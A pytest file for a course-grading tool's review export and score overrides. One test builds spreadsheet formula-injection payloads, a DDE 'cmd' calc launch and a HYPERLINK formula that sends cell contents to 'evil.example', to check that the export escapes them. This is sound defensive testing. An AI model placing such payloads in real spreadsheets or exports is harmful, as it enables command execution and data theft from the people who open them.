"""Manual marking: the export, and overrides that change exactly the named cells or nothing."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from conftest import synthetic, write_results

from pmcourse._cli import main
from pmcourse._cohort.report import render_report
from pmcourse._cohort.review import REVIEW_COLUMNS
from pmcourse._schema import BatchResult


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def _answers(root: Path, learners: int) -> None:
    """The notebooks the synthetic results name (s/lN/04.ipynb), each with its 4.3 answer."""
    for i in range(learners):
        cell = {"cell_type": "code", "source": f'story = "As l{i} I want"\ncheck("4.3", story)'}
        path = root / "s" / f"l{i}" / "04.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps({"cells": [cell]}), encoding="utf-8")


def test_export_lists_every_free_text_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    results = write_results(tmp_path / "r.json", synthetic(4))
    _answers(tmp_path, 4)
    out = tmp_path / "review.csv"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # run from another folder: found next to the results
    assert main(["review", "export", str(results), "-o", str(out)]) == 0
    rows = rows_of(out)
    assert [r["answer"] for r in rows] == [f'story = "As l{i} I want"' for i in range(4)]
    assert list(rows[0]) == REVIEW_COLUMNS
    assert [(r["learner"], r["task"]) for r in rows] == [(f"l{i}", "4.3") for i in range(4)]
    assert rows[0]["auto_score"] == "0.5" and rows[0]["max_score"] == "1"
    assert "no 'so that' part" in rows[0]["evidence"]
    assert rows[0]["score"] == rows[0]["comment"] == ""


def test_export_says_when_it_cannot_find_the_answers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    graded_in = tmp_path / "course"
    _answers(graded_in, 2)
    batch = synthetic(2)
    batch.root = str(graded_in)  # as 'pmcourse grade' records it
    (tmp_path / "elsewhere").mkdir()
    results = write_results(tmp_path / "elsewhere" / "r.json", batch)
    out = tmp_path / "review.csv"
    monkeypatch.chdir(tmp_path)
    assert main(["review", "export", str(results), "-o", str(out)]) == 0  # the recorded root
    assert rows_of(out)[1]["answer"] == 'story = "As l1 I want"'
    (graded_in / "s").rename(tmp_path / "moved")
    assert main(["review", "export", str(results), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert "the answers of 2 of 2 notebook(s) could not be read" in err and "--root" in err
    assert {r["answer"] for r in rows_of(out)} == {""}
    (tmp_path / "moved").rename(tmp_path / "s")
    assert main(["review", "export", str(results), "-o", str(out), "--root", str(tmp_path)]) == 0
    assert rows_of(out)[0]["answer"] == 'story = "As l0 I want"'


def test_bad_override_rows_are_numbered_as_a_spreadsheet_shows_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = write_results(tmp_path / "r.json", synthetic(4))
    review = tmp_path / "review.csv"
    review.write_text(
        "learner,task,score,comment,evidence\n"
        'l0,4.3,1,,"✔ one\n✘ two\n✘ three"\n'
        'l1,4.3,,,"✔ one\n✘ two"\n'
        "l2,4.3,9,,\n",
        encoding="utf-8",
    )
    out = tmp_path / "g.csv"
    assert main(["gradebook", str(results), "-o", str(out), "--overrides", str(review)]) == 1
    assert "review.csv row 4: score 9 is out of range" in capsys.readouterr().err


def _overrides(tmp_path: Path, lines: list[str]) -> Path:
    path = tmp_path / "review.csv"
    path.write_text("learner,task,score,comment\n" + "\n".join(lines) + "\n", encoding="utf-8")
    return path


def _grades(results: Path, tmp_path: Path, *extra: str) -> list[list[str]]:
    out = tmp_path / "g.csv"
    assert main(["gradebook", str(results), "-o", str(out), *extra]) == 0
    return list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))


def test_overrides_change_exactly_the_named_cells(tmp_path: Path) -> None:
    results = write_results(tmp_path / "r.json", synthetic(4))
    before = _grades(results, tmp_path)
    review = _overrides(tmp_path, ["l1,4.3,1,Well argued", "l2,4.3,,Only a comment", ",,,"])
    after = _grades(results, tmp_path, "--overrides", str(review))
    head = after[0]
    assert "4.3 auto" in head and head.index("4.3 auto") == head.index("4.3") + 1
    old = [dict(zip(before[0], r, strict=True)) for r in before[1:]]
    new = [dict(zip(head, r, strict=True)) for r in after[1:]]
    for o, n in zip(old, new, strict=True):
        changed = {k for k in o if o[k] != n[k]}
        if n["learner"] == "l1":
            assert changed == {"4.3", "exercise 4", "total", "percent"}
            assert n["4.3"] == "1" and n["4.3 auto"] == "0.5"
        else:
            assert changed == set()
            assert n.get("4.3 auto", "") == o.get("4.3", "")


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("nobody,4.3,1,", "row 3: learner 'nobody' is not in the results"),
        ("l0,9.9,1,", "row 3: learner 'l0' names an unknown task '9.9'"),
        ("l0,4.3,2,", "row 3: score 2 is out of range for task 4.3 (0 to 1)"),
        ("l0,4.3,-1,", "row 3: score -1 is out of range"),
        ("l0,4.3,much,", "row 3: score 'much' is not a number"),
        ("l1,4.3,0.5,", "row 3: learner 'l1', task 4.3 was already given in row 2"),
    ],
)
def test_malformed_overrides_change_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, message: str
) -> None:
    results = write_results(tmp_path / "r.json", synthetic(2))
    review = _overrides(tmp_path, ["l1,4.3,1,ok", line])
    for argv in (
        ["gradebook", str(results), "-o", str(tmp_path / "g.csv")],
        [
            "report",
            str(results),
            "-o",
            str(tmp_path / "c.html"),
            "--feedback-dir",
            str(tmp_path / "fb"),
        ],
    ):
        assert main([*argv, "--overrides", str(review)]) == 1
        err = capsys.readouterr().err
        assert message in err, err
        assert err.count("\n") == 1 and "Traceback" not in err
    assert not (tmp_path / "g.csv").exists()
    assert not (tmp_path / "c.html").exists()
    assert not (tmp_path / "fb").exists()


def test_overrides_without_the_columns(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    results = write_results(tmp_path / "r.json", synthetic(2))
    bad = tmp_path / "bad.csv"
    bad.write_text("who,what\nl0,4.3\n", encoding="utf-8")
    assert main(["gradebook", str(results), "--overrides", str(bad)]) == 1
    assert "no column learner, task, score" in capsys.readouterr().err


def test_no_exported_cell_starts_a_formula_and_overrides_still_find_the_learner(
    tmp_path: Path,
) -> None:
    import json

    from pmcourse._cohort.escape import csv_cell

    batch = synthetic(2)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    batch.notebooks[0].learner = "=cmd|' /C calc'!A0"
    batch.notebooks[0].tasks[1].feedback = "@SUM(1)\n" + formula
    # The answer column is read from the learner's notebook, as in a real export.
    nb_path = tmp_path / "04.ipynb"
    cell = {"cell_type": "code", "source": formula + '\ncheck("4.3", answer_4_3)'}
    nb_path.write_text(json.dumps({"cells": [cell]}), encoding="utf-8")
    batch.notebooks[0].path = str(nb_path)
    # only the notebook that exists on disk: the export says so when it cannot read one
    batch.notebooks = [n for n in batch.notebooks if n.path == str(nb_path)]
    batch.total()
    results = write_results(tmp_path / "r.json", batch)
    out = tmp_path / "review.csv"
    assert main(["review", "export", str(results), "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r), rows
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["answer"] == csv_cell(formula) and first["learner"].startswith("'=")
    # The instructor fills in a score in the exported file; the quoted name still matches.
    filled = [rows[0], [*rows[1][:-2], "1", "-checked by hand"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(filled)
    review = tmp_path / "filled.csv"
    review.write_text(buf.getvalue(), encoding="utf-8")
    grades = _grades(results, tmp_path, "--overrides", str(review))
    assert all(not c.startswith(("=", "+", "-", "@")) for r in grades for c in r), grades
    by_learner = {r[0]: dict(zip(grades[0], r, strict=True)) for r in grades[1:]}
    assert by_learner[csv_cell("=cmd|' /C calc'!A0")]["4.3"] == "1"


def _with_one_review(learners: int = 4) -> BatchResult:
    batch = synthetic(learners)
    nb = next(n for n in batch.notebooks if n.learner == "l2" and n.tasks)
    nb.tasks[1] = nb.tasks[1].replace(status="review", feedback="? Persona: not sure")
    return batch


def test_export_lists_the_answers_that_need_a_human_look_first(tmp_path: Path) -> None:
    results = write_results(tmp_path / "r.json", _with_one_review())
    _answers(tmp_path, 4)
    out = tmp_path / "review.csv"
    assert main(["review", "export", str(results), "-o", str(out)]) == 0
    rows = rows_of(out)
    assert [(r["learner"], r["auto_status"]) for r in rows] == [
        ("l2", "review"),
        ("l0", "fail"),
        ("l1", "fail"),
        ("l3", "fail"),
    ]


def test_the_report_counts_answers_that_need_review_per_task() -> None:
    html = render_report(_with_one_review(), at_risk=50)
    assert '<th scope="col" class=n>Needs review</th>' in html
    row = re.search(r'<tr><th scope="row">4\.3</th>(.*?)</tr>', html)
    assert row is not None
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", row.group(1))
    # title, passed, graded, failed, needs review, error, not attempted
    assert cells[3:5] == ["3", "1"]
